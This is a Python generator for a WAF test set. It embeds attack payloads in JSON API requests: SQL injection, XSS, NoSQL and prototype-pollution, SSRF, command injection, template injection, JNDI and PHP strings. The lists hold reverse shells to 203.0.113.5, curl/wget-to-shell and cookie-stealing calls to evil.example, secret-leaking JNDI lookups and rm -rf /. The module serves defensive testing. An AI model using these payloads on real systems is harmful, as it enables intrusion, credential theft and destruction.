"""Blind WAF test set "twentysixth": attacks on JSON APIs, and the ordinary JSON API traffic they hide in.

The attacks are SQL injection, XSS, "generic" (NoSQL operator injection, prototype pollution, SSRF), command
injection, server-side template injection, Java (JNDI lookups, expression languages, polymorphic JSON
deserialisation) and PHP payloads, delivered the way attackers hit JSON APIs: in string values at several depths,
inside arrays, as numbers-as-strings, as keys, in GraphQL documents and variables posted as JSON, in JSON:API
bodies and filter/sort/fields/include parameters, in merge-patch and JSON-patch documents, in the query parameters
of REST collection endpoints, in path segments, in /oauth/token requests, and in JSON bodies with unusual but
valid syntax (\\u0027-style escapes, escaped slashes, extra whitespace, duplicate keys). Each distinct payload is
sent in three placements chosen by a fixed rotation, so the set is deterministic.

The benign half is what real API clients send to the same routes: profiles with free text in many languages,
settings objects, tag arrays, search and filter parameters, GraphQL documents with ordinary fields, PATCH
documents, prose with quotes, apostrophes, ampersands and angle brackets, links to public sites, and escaped
unicode.

How it was written: by an assistant helper session, blind and independently, from its own general knowledge of
each technique and of real API traffic. It did not read the WAF's rules, the CRS files or regression tests, the
gateway's WAF exclusions, the other generators' payload lists, the shared corpus, or any public payload list,
and it did not search for payloads. The routes came from the gateway's route list and app/routes/api.py. The set
was measured once, after it was finished, and its payloads and texts were not changed after that measurement.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

from .family_gen import _query

NAME = "twentysixth"

UAS = ["okhttp/4.12.0", "python-requests/2.32.3", "axios/1.7.2", "Go-http-client/2.0", "Dart/3.4 (dart:io)",
       "PostmanRuntime/7.39.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "curl/8.5.0"]
ACTIONS = ["weather", "alerts", "config", "help", "remember location"]
USER_IDS = [7, 42, 118, 1003, 25, 9]

Payload = str | dict[str, Any] | list[Any]

# --------------------------------------------------------------------------------------------------- attacks
SQLI: list[tuple[str, Payload]] = [
    # numbers-as-strings, where an id or a limit is expected
    ("numeric-string", "1 OR 1=1"),
    ("numeric-string", "1 or 1=1--"),
    ("numeric-string", "0 OR 2>1"),
    ("numeric-string", "1) OR (1=1"),
    ("numeric-string", "42 AND 1=2 UNION SELECT 1,2,3"),
    ("numeric-string", "-1 OR 3 LIKE 3"),
    ("numeric-string", "1 OR true"),
    ("numeric-string", "7 AND 1=CONVERT(int,@@version)"),
    ("numeric-string", "1 OR 0x31=0x31"),
    ("numeric-string", "5 AND ascii(substring(current_user,1,1))>64"),
    ("numeric-string", "1/**/OR/**/1=1"),
    ("numeric-string", "100 OR 1=1 LIMIT 1"),
    # quote breaking
    ("quote", "' OR '1'='1"),
    ("quote", "admin'--"),
    ("quote", "x' OR 1=1-- -"),
    ("quote", "') OR ('x'='x"),
    ("quote", "\" OR \"\"=\""),
    ("quote", "' or ''='"),
    ("quote", "ana@example.org' AND '1'='1"),
    ("quote", "T024BE7LD' OR 'a'='a"),
    ("quote", "' OR EXISTS(SELECT * FROM pg_user)--"),
    ("quote", "'||(SELECT version())||'"),
    ("quote", "' OR CHAR(49)=CHAR(49)--"),
    ("quote", "\") OR 1=1#"),
    # union
    ("union", "' UNION SELECT username, password FROM users--"),
    ("union", "1 UNION ALL SELECT NULL,NULL,NULL--"),
    ("union", "'/**/UNION/**/SELECT/**/1,2,3--"),
    ("union", "0 UnIoN SeLeCt table_name,2 FrOm information_schema.tables"),
    ("union", "' UNION SELECT email, slack_user_id FROM users WHERE is_admin--"),
    ("union", "' UNION SELECT sql, 1 FROM sqlite_master--"),
    ("union", "' UNION SELECT CHR(65)||CHR(66), NULL--"),
    ("union", "-1 union select 1,group_concat(column_name) from information_schema.columns"),
    ("union", "' UNION SELECT LOAD_FILE('/etc/passwd'),2--"),
    ("union", "1 union select current_database(),current_user,version()"),
    # error based
    ("error", "' AND extractvalue(1,concat(0x7e,(SELECT user())))--"),
    ("error", "' AND updatexml(null,concat(0x3a,database()),null)--"),
    ("error", "1 AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)"),
    ("error", "' AND 1=(SELECT 1/0 FROM users)--"),
    ("error", "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--"),
    ("error", "1' AND exp(~(SELECT * FROM (SELECT user())x))--"),
    # time based
    ("time", "'; WAITFOR DELAY '0:0:5'--"),
    ("time", "' AND pg_sleep(5)--"),
    ("time", "1' AND BENCHMARK(5000000,MD5('a'))--"),
    ("time", "' || pg_sleep(10) || '"),
    ("time", "1 AND (SELECT 5 FROM pg_sleep(5))"),
    ("time", "'; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("time", "1 AND SLEEP(5)"),
    ("time", "(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("time", "' AND randomblob(500000000)--"),
    ("time", "1;SELECT pg_sleep(5)"),
    # stacked and out of band
    ("stacked", "'; DROP TABLE users;--"),
    ("stacked", "1; UPDATE users SET is_admin=true WHERE id=1--"),
    ("stacked", "'; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("stacked", "'; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "'; SELECT lo_import('/etc/passwd')--"),
    ("stacked", "' INTO OUTFILE '/var/www/html/s.php'--"),
    ("stacked", "'; INSERT INTO users(email,is_admin) VALUES('x@evil.example',true)--"),
    ("stacked", "1; CREATE TABLE x(t text); COPY x FROM '/etc/passwd'--"),
    ("stacked", "'; DECLARE @q varchar(99); SET @q='\\\\evil.example\\a'; EXEC master..xp_dirtree @q--"),
    ("stacked", "' AND utl_inaddr.get_host_name((SELECT user FROM dual)) IS NOT NULL--"),
    # sort / order-by / column-list injection (sort=, fields=)
    ("order-by", "name; DROP TABLE users"),
    ("order-by", "(CASE WHEN (SELECT substr(email,1,1) FROM users LIMIT 1)='a' THEN name ELSE id END)"),
    ("order-by", "id,(select 1 from pg_sleep(3))"),
    ("order-by", "created_at DESC, (SELECT 1/0)"),
    ("order-by", "IF(1=1,name,email)"),
    ("order-by", "1 ORDER BY 10--"),
    ("order-by", "1 GROUP BY 1,2,3 HAVING 1=1--"),
    ("order-by", "name,(select case when 1=1 then 1 else 1/0 end)"),
    ("order-by", "id desc limit 1 union select 1,2--"),
    ("order-by", "email,extractvalue(1,concat(0x7e,version()))"),
    # JSON column operators
    ("json-operator", "x' OR settings->>'alerts' = 'true' OR '1'='1"),
    ("json-operator", "' OR settings::text LIKE '%admin%'--"),
    ("json-operator", "1' AND jsonb_typeof(settings)='object'--"),
    ("json-operator", "') OR settings @> '{}' --"),
    ("json-operator", "' OR json_extract(data,'$.role')='admin'--"),
    ("json-operator", "1 AND (SELECT json_agg(u) FROM users u) IS NOT NULL"),
    # short probes
    ("probe", "'--"),
    ("probe", "1' #"),
    ("probe", "' OR 1--"),
    ("probe", "1 AND 1=2"),
    ("probe", "';"),
    ("probe", "1'\"`"),
]

XSS: list[tuple[str, Payload]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("script-tag", "<script src=https://evil.example/x.js></script>"),
    ("script-tag", "\"><script>alert(1)</script>"),
    ("script-tag", "</script><script>alert(1)</script>"),
    ("script-tag", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-tag", "<script>document.location='https://evil.example/?c='+document.cookie</script>"),
    ("script-tag", "<script>fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"
                   "</script>"),
    ("script-tag", "<svg><script>alert&#40;1&#41;</script>"),
    ("event-handler", "<img src=x onerror=alert(document.domain)>"),
    ("event-handler", "'><img src=x onerror=alert(1)>"),
    ("event-handler", "<svg onload=alert(1)>"),
    ("event-handler", "<svg/onload=fetch('//x.example/'+document.cookie)>"),
    ("event-handler", "<body onload=alert(1)>"),
    ("event-handler", "<details open ontoggle=alert(1)>"),
    ("event-handler", "<input autofocus onfocus=alert(1)>"),
    ("event-handler", "<video><source onerror=alert(1)>"),
    ("event-handler", "<marquee onstart=alert(1)>"),
    ("event-handler", "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x>"),
    ("event-handler", "<img src=x:x onerror=alert`1`>"),
    ("event-handler", "<img src=\"x\" onerror=\"&#97;lert(1)\">"),
    ("event-handler", "<x onclick=alert(1)>click me"),
    ("event-handler", "<img src=x onerror=import('//evil.example/m.js')>"),
    ("event-handler", "<img src onerror=top['al'+'ert'](1)>"),
    ("event-handler", "<svg onload=setTimeout('alert(1)')>"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<audio src=x onerror=alert(1)>"),
    ("event-handler", "<img src=x onerror=window.location='https://evil.example/'+localStorage.token>"),
    ("event-handler", "\" autofocus onfocus=\"alert(1)"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "<a href=\"javascript:alert(1)\">click</a>"),
    ("js-uri", "<iframe src=javascript:alert(1)>"),
    ("js-uri", "<object data=\"javascript:alert(1)\">"),
    ("js-uri", "<embed src=javascript:alert(1)>"),
    ("js-uri", "<form action=javascript:alert(1)><input type=submit>"),
    ("js-uri", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("js-uri", "<a href=javascript&colon;alert(1)>x</a>"),
    ("js-uri", "vbscript:msgbox(1)"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("js-uri", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("js-uri", "JaVaScRiPt:fetch('//evil.example?'+document.cookie)"),
    ("markup", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("markup", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("markup", "<div style=\"background:url(javascript:alert(1))\">"),
    ("markup", "<link rel=import href=https://evil.example/x.html>"),
    ("markup", "<base href=\"https://evil.example/\">"),
    ("markup", "<style>@import 'https://evil.example/x.css';</style>"),
    ("markup", "<svg><foreignObject><iframe src=javascript:alert(1)>"),
    ("markup", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">"),
    ("markup", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("markup", "<svg><set attributeName=onmouseover to=alert(1)>"),
    ("js-context", "\";alert(1);//"),
    ("js-context", "';alert(String.fromCharCode(88,83,83))//"),
    ("js-context", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//"),
    ("js-context", "{{constructor.constructor('alert(1)')()}}"),
    ("js-context", "<div ng-app>{{$on.constructor('alert(1)')()}}</div>"),
    ("probe", "<script>"),
    ("probe", "<svg/onload=1>"),
    ("probe", "<img src=x onerror=1>"),
]

GENERIC: list[tuple[str, Payload]] = [
    # NoSQL operator injection
    ("nosql", {"$ne": None}),
    ("nosql", {"$gt": ""}),
    ("nosql", {"$regex": ".*"}),
    ("nosql", {"$regex": "^adm", "$options": "i"}),
    ("nosql", {"$where": "sleep(5000) || true"}),
    ("nosql", {"$where": "this.password.length > 0"}),
    ("nosql", {"$or": [{"email": {"$ne": "x"}}, {"$where": "1==1"}]}),
    ("nosql", {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}),
    ("nosql", {"$in": ["admin", "root", "administrator"]}),
    ("nosql", {"$exists": True}),
    ("nosql", {"$nin": [""]}),
    ("nosql", {"$not": {"$eq": "nobody"}}),
    ("nosql", {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}),
    ("nosql", {"$accumulator": {"init": "function(){return require('child_process')}", "lang": "js"}}),
    ("nosql", {"email": {"$ne": "a"}, "password": {"$ne": "b"}}),
    ("nosql", {"username": "admin", "password": {"$gt": ""}}),
    ("nosql", "'; return true; var x='"),
    ("nosql", "' || '1'=='1"),
    ("nosql", "'; sleep(5000); '"),
    ("nosql", "true, $where: '1 == 1'"),
    ("nosql", "1'; while(true){}; '"),
    ("nosql", "[$ne]=1"),
    ("nosql", "{\"$gt\": \"\"}"),
    ("nosql", "db.users.find({}).forEach(printjson)"),
    ("nosql", "this.constructor.constructor('return process')().mainModule"),
    # prototype pollution
    ("proto-pollution", {"__proto__": {"isAdmin": True}}),
    ("proto-pollution", {"constructor": {"prototype": {"isAdmin": True}}}),
    ("proto-pollution", {"__proto__": {"role": "admin", "scopes": ["read", "write"]}}),
    ("proto-pollution", {"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(1)//",
                                       "NODE_OPTIONS": "--require /proc/self/cmdline"}}),
    ("proto-pollution", {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process')"
                                                             ".execSync('id');x"}}),
    ("proto-pollution", {"__proto__": {"sourceURL": "\nreturn process.mainModule.require('child_process')"}}),
    ("proto-pollution", {"settings": {"__proto__": {"polluted": "yes"}}}),
    ("proto-pollution", {"a": [{"__proto__": {"toString": "x"}}]}),
    ("proto-pollution", {"__proto__": {"client": "1", "escapeFunction": "JSON.stringify; process.exit()"}}),
    ("proto-pollution", {"constructor": {"prototype": {"execArgv": ["--eval=require('child_process').exec('id')"]}}}),
    ("proto-pollution", {"__proto__": {"allowedHosts": ["*"], "debug": True}}),
    ("proto-pollution", "__proto__[isAdmin]=true"),
    ("proto-pollution", "constructor[prototype][admin]=1"),
    ("proto-pollution", "__proto__.polluted=1"),
    ("proto-pollution", "x.__proto__.toString"),
    ("proto-pollution", "constructor.prototype.isAdmin"),
    ("proto-pollution", "/__proto__/isAdmin"),
    ("proto-pollution", "Object.prototype.isAdmin"),
    # SSRF
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("ssrf", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "http://127.0.0.1:6379/"),
    ("ssrf", "gopher://127.0.0.1:6379/_SET%20x%20y%0D%0ASAVE"),
    ("ssrf", "dict://127.0.0.1:11211/stats"),
    ("ssrf", "file:///etc/passwd"),
    ("ssrf", "http://0x7f000001/admin"),
    ("ssrf", "http://2130706433/"),
    ("ssrf", "http://017700000001/"),
    ("ssrf", "http://127.1/server-status"),
    ("ssrf", "http://0.0.0.0:8080/actuator/env"),
    ("ssrf", "http://localhost:2375/containers/json"),
    ("ssrf", "http://[::1]:22/"),
    ("ssrf", "http://[::ffff:127.0.0.1]/admin/"),
    ("ssrf", "http://169.254.169.254.nip.io/latest/"),
    ("ssrf", "http://evil.example@127.0.0.1/"),
    ("ssrf", "http://127.0.0.1#@good.example/"),
    ("ssrf", "ldap://127.0.0.1:389/dc=internal"),
    ("ssrf", "jar:http://evil.example/x.jar!/a.class"),
    ("ssrf", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("ssrf", "http://169.254.170.2/v2/credentials"),
    ("ssrf", "netdoc:///etc/passwd"),
    ("ssrf", "tftp://evil.example/x"),
    ("ssrf", "http://instance-data/latest/user-data"),
    ("ssrf", "http://localhost/admin/users"),
    ("ssrf", "file://localhost/c:/windows/win.ini"),
]

RCE: list[tuple[str, Payload]] = [
    ("shell-separator", "; id"),
    ("shell-separator", "| cat /etc/passwd"),
    ("shell-separator", "&& whoami"),
    ("shell-separator", "|| ping -c 10 127.0.0.1"),
    ("shell-separator", "a.png; rm -rf / --no-preserve-root"),
    ("shell-separator", "; sleep 5 #"),
    ("shell-separator", "; uname -a"),
    ("shell-separator", "| id"),
    ("shell-separator", "; ls -la /"),
    ("shell-separator", "; cat /proc/self/environ"),
    ("shell-separator", "; getent passwd"),
    ("shell-separator", "x\ncat /etc/passwd"),
    ("shell-separator", "& cmd.exe /c dir C:\\"),
    ("shell-separator", "| powershell -enc SQBFAFgA"),
    ("shell-separator", "; chmod +x /tmp/x && /tmp/x"),
    ("subshell", "$(curl -s https://evil.example/x.sh | sh)"),
    ("subshell", "`wget -qO- evil.example/s|sh`"),
    ("subshell", "$(sleep 10)"),
    ("subshell", "`id`"),
    ("subshell", "$(id)"),
    ("subshell", "; curl http://evil.example/$(whoami)"),
    ("subshell", "$(nslookup $(hostname).evil.example)"),
    ("subshell", "; echo c2ggLWkK | base64 -d | sh"),
    ("obfuscated", "${IFS}cat${IFS}/etc/shadow"),
    ("obfuscated", ";cat$IFS/etc/passwd"),
    ("obfuscated", ";c'a't /e\"t\"c/pa\\ss\\wd"),
    ("obfuscated", ";/???/??t /???/p??s??"),
    ("obfuscated", "{cat,/etc/passwd}"),
    ("reverse-shell", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("reverse-shell", "; nc -e /bin/sh 203.0.113.5 4444"),
    ("reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));"
                      "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("reverse-shell", "; perl -e 'exec \"/bin/sh\"'"),
    ("reverse-shell", "; /bin/busybox telnetd -l /bin/sh -p 9999"),
    ("reverse-shell", "; mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
    ("code-eval", "require('child_process').exec('id')"),
    ("code-eval", "process.mainModule.require('child_process').execSync('cat /etc/passwd')"),
    ("code-eval", "__import__('os').system('id')"),
    ("code-eval", "os.popen('id').read()"),
    ("code-eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("code-eval", "-oProxyCommand=sh -c 'id'"),
]

SSTI: list[tuple[str, Payload]] = [
    ("probe", "{{7*7}}"),
    ("probe", "${7*7}"),
    ("probe", "<%= 7*7 %>"),
    ("probe", "#{7*7}"),
    ("probe", "{{7*'7'}}"),
    ("jinja", "{{config.items()}}"),
    ("jinja", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("jinja", "{{lipsum.__globals__['os'].popen('id').read()}}"),
    ("jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}"),
    ("jinja", "{{ joiner.__init__.__globals__.os.system('id') }}"),
    ("jinja", "{{ config.__class__.__init__.__globals__['os'].environ }}"),
    ("jinja", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
    ("twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("twig", "{{['id']|filter('system')}}"),
    ("erb", "<%= `id` %>"),
    ("erb", "<%= system('id') %>"),
    ("smarty", "{php}echo `id`;{/php}"),
    ("smarty", "{system('id')}"),
    ("node", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("node", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
]

JAVA: list[tuple[str, Payload]] = [
    ("jndi", "${jndi:ldap://evil.example:1389/a}"),
    ("jndi", "${jndi:rmi://203.0.113.5/obj}"),
    ("jndi", "${${lower:j}ndi:${lower:l}dap://evil.example/x}"),
    ("jndi", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"),
    ("jndi", "${jndi:dns://evil.example/probe}"),
    ("jndi", "${jndi:ldaps://evil.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("jndi", "${env:DATABASE_URL}"),
    ("jndi", "${sys:java.version}"),
    ("expression", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("expression", "*{T(java.lang.System).getenv()}"),
    ("expression", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")"),
    ("expression", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
                   ".(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"),
    ("expression", "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')}"),
    ("expression", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}"),
    ("expression", "new java.lang.ProcessBuilder(\"id\").start()"),
    ("expression", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("expression", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance()"
                   ".getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
    ("deserialization", ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil.example/x",
                                                            "autoCommit": True}]),
    ("deserialization", {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://evil.example/x",
                         "autoCommit": True}),
    ("deserialization", {"@class": "org.springframework.context.support.ClassPathXmlApplicationContext",
                         "configLocation": "http://evil.example/beans.xml"}),
    ("deserialization", {"@type": "java.lang.AutoCloseable", "@type2": "org.apache.commons.io.input.BOMInputStream"}),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("deserialization", "<java.util.PriorityQueue serialization='custom'><unserializable-parents/>"
                        "</java.util.PriorityQueue>"),
    ("spring", "class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
    ("spring", "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/"),
]

PHP: list[tuple[str, Payload]] = [
    ("serialized", "O:8:\"stdClass\":1:{s:4:\"test\";s:2:\"id\";}"),
    ("serialized", "a:2:{i:0;O:4:\"User\":1:{s:5:\"admin\";b:1;}i:1;s:1:\"x\";}"),
    ("serialized", "O:29:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}"),
    ("code", "<?php system($_GET['c']); ?>"),
    ("code", "<?= `id` ?>"),
    ("code", "<?php echo file_get_contents('/etc/passwd'); ?>"),
    ("code", "system('id');"),
    ("code", "passthru('cat /etc/passwd');"),
    ("code", "eval($_POST['x']);"),
    ("code", "assert('phpinfo()')"),
    ("code", "preg_replace('/.*/e','system(\"id\")','')"),
    ("code", "call_user_func('system','id')"),
    ("code", "file_put_contents('s.php','<?php eval($_REQUEST[0]);')"),
    ("code", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
    ("code", "shell_exec('uname -a')"),
    ("code", "proc_open('id',[],$p)"),
    ("code", "phpinfo();"),
    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    ("wrapper", "php://input"),
    ("wrapper", "phar:///tmp/upload.jpg/x"),
    ("wrapper", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"),
    ("wrapper", "expect://id"),
    ("wrapper", "zip://uploads/a.zip#shell.php"),
]

FAMILIES: list[tuple[str, list[tuple[str, Payload]]]] = [
    ("sqli", SQLI), ("xss", XSS), ("generic", GENERIC), ("rce", RCE), ("ssti", SSTI), ("java", JAVA), ("php", PHP)]


# --------------------------------------------------------------------------------------------------- helpers
def _headers(i: int, ctype: str | None = None) -> dict[str, str]:
    headers = {"User-Agent": UAS[i % len(UAS)], "Accept": "application/json"}
    if ctype:
        headers["Content-Type"] = ctype
    return headers


def _raw(method: str, uri: str, body: str, i: int, ctype: str = "application/json") -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": _headers(i, ctype if body else None)}


def _doc(method: str, uri: str, doc: Any, i: int, ctype: str = "application/json") -> dict[str, Any]:
    return _raw(method, uri, json.dumps(doc, ensure_ascii=False), i, ctype)


def _get(uri: str, i: int) -> dict[str, Any]:
    return _raw("GET", uri, "", i)


def _text(value: Payload) -> str:
    return value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)


def _escaped(doc: Any) -> str:
    """Valid JSON with every quote, angle bracket and ampersand as a \\u escape and every slash as \\/."""
    out = json.dumps(doc, ensure_ascii=True)
    for char, esc in (("'", "\\u0027"), ("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("/", "\\/")):
        out = out.replace(char, esc)
    return out


def _spaced(doc: Any) -> str:
    """Valid JSON with tabs, newlines and extra spaces between tokens."""
    return "\n" + json.dumps(doc, ensure_ascii=False, indent="\t", separators=(" ,", " :  ")) + " \n"


def _flatten(value: Any, prefix: str) -> list[tuple[str, str]]:
    """qs-style bracket parameters: {"a": {"$ne": 1}} under "filter" -> filter[a][$ne]=1."""
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _flatten(v, f"{prefix}[{k}]")]
    if isinstance(value, list):
        return [p for n, v in enumerate(value) for p in _flatten(v, f"{prefix}[{n}]")]
    if value is None:
        return [(prefix, "")]
    if isinstance(value, bool):
        return [(prefix, "true" if value else "false")]
    return [(prefix, str(value))]


def _uid(i: int) -> int:
    return USER_IDS[i % len(USER_IDS)]


def _action(i: int) -> str:
    return urllib.parse.quote(ACTIONS[i % len(ACTIONS)], safe="")


Placement = Callable[[Payload, int], dict[str, Any]]


def _p_json_deep(p: Payload, i: int) -> dict[str, Any]:
    doc = {"settings": {"profile": {"display": {"bio": p, "pronouns": "she/her"}}, "units": "metric"}}
    return _doc("PATCH", f"/api/users/{_uid(i)}", doc, i)


def _p_json_array(p: Payload, i: int) -> dict[str, Any]:
    doc = {"users": [{"name": "Ana Lima", "tags": ["ops", p]}, {"name": "Bo Chen", "tags": []}]}
    return _doc("POST", "/api/users", doc, i)


def _p_json_key(p: Payload, i: int) -> dict[str, Any]:
    doc: dict[str, Any] = {"enabled": True, "team_id": "T024BE7LD"}
    if isinstance(p, dict):
        doc.update(p)
    elif isinstance(p, list):
        doc["filters"] = p
    else:
        doc[p] = "1"
    return _doc("PUT", f"/api/switches/{_action(i)}", doc, i)


def _p_json_numstr(p: Payload, i: int) -> dict[str, Any]:
    if i % 2:
        return _doc("PUT", f"/api/switches/{_action(i)}", {"enabled": False, "team_id": p}, i)
    return _doc("POST", "/api/users/search", {"id": p, "limit": "20", "offset": "0"}, i)


def _p_graphql_var(p: Payload, i: int) -> dict[str, Any]:
    doc = {"query": "query GetUser($id: ID!) { user(id: $id) { id name email settings { units } } }",
           "variables": {"id": p}, "operationName": "GetUser"}
    return _doc("POST", "/api/graphql", doc, i)


def _p_graphql_query(p: Payload, i: int) -> dict[str, Any]:
    arg = json.dumps(p, ensure_ascii=False) if isinstance(p, str) else _text(p)
    query = "{ users(filter: {name: " + arg + "}, first: 10) { edges { node { id name } } } }"
    return _doc("POST", "/api/graphql", {"query": query}, i)


def _p_jsonapi_body(p: Payload, i: int) -> dict[str, Any]:
    doc = {"data": {"type": "users", "id": str(_uid(i)), "attributes": {"name": p, "email": "ana@example.org"}}}
    return _doc("PATCH", f"/api/users/{_uid(i)}", doc, i, "application/vnd.api+json")


def _p_jsonapi_filter(p: Payload, i: int) -> dict[str, Any]:
    params = _flatten(p, "filter[email]") if not isinstance(p, str) else [("filter[name]", p)]
    return _get(_query("/api/users", [*params, ("page[size]", "25")]), i)


def _p_query_sort(p: Payload, i: int) -> dict[str, Any]:
    return _get(_query("/api/users", [("sort", _text(p)), ("limit", "50")]), i)


def _p_query_fields(p: Payload, i: int) -> dict[str, Any]:
    key = "fields[users]" if i % 2 else "include"
    return _get(_query("/api/users", [(key, _text(p)), ("active", "true")]), i)


def _p_query_search(p: Payload, i: int) -> dict[str, Any]:
    if i % 3 == 0:
        return _get(_query("/api/usage/stats", [("since", _text(p)), ("until", "2024-06-01T00:00:00Z")]), i)
    if not isinstance(p, str):
        return _get(_query("/api/users", _flatten(p, "where")), i)
    return _get(_query("/api/users", [("search", p), ("limit", "20")]), i)


def _p_path(p: Payload, i: int) -> dict[str, Any]:
    return _get("/api/users/" + urllib.parse.quote(_text(p), safe=""), i)


def _p_merge_patch(p: Payload, i: int) -> dict[str, Any]:
    doc = {"name": p, "settings": {"alert_time": "07:30"}} if i % 2 else {"settings": {"timezone": p}}
    return _doc("PATCH", f"/api/users/{_uid(i)}", doc, i, "application/merge-patch+json")


def _p_json_patch(p: Payload, i: int) -> dict[str, Any]:
    ops: list[dict[str, Any]] = [{"op": "test", "path": "/is_active", "value": True}]
    if isinstance(p, str) and i % 3 == 0:
        ops.append({"op": "add", "path": "/settings/" + p.replace("~", "~0").replace("/", "~1"), "value": "x"})
    else:
        ops.append({"op": "replace", "path": "/email", "value": p})
    return _doc("PATCH", f"/api/users/{_uid(i)}", ops, i, "application/json-patch+json")


def _p_json_escaped(p: Payload, i: int) -> dict[str, Any]:
    doc = {"email": "dana@example.org", "profile": {"about": p}}
    return _raw("PATCH", f"/api/users/{_uid(i)}", _escaped(doc), i)


def _p_json_spaced(p: Payload, i: int) -> dict[str, Any]:
    doc = {"query": {"bool": {"must": [{"match": {"name": p}}]}}, "size": 10}
    return _raw("POST", "/api/users/search", _spaced(doc), i)


def _p_json_dupkey(p: Payload, i: int) -> dict[str, Any]:
    body = ('{"name": "Dana Scully", "email": "dana@example.org", "name": ' + json.dumps(p, ensure_ascii=False)
            + ', "is_active": true}')
    return _raw("PATCH", f"/api/users/{_uid(i)}", body, i)


def _p_oauth(p: Payload, i: int) -> dict[str, Any]:
    if i % 2:
        fields = [("grant_type", "client_credentials"), ("client_id", _text(p)),
                  ("client_secret", "s3cr3t-d3m0"), ("scope", "read")]
        return _raw("POST", "/oauth/token", urllib.parse.urlencode(fields), i, "application/x-www-form-urlencoded")
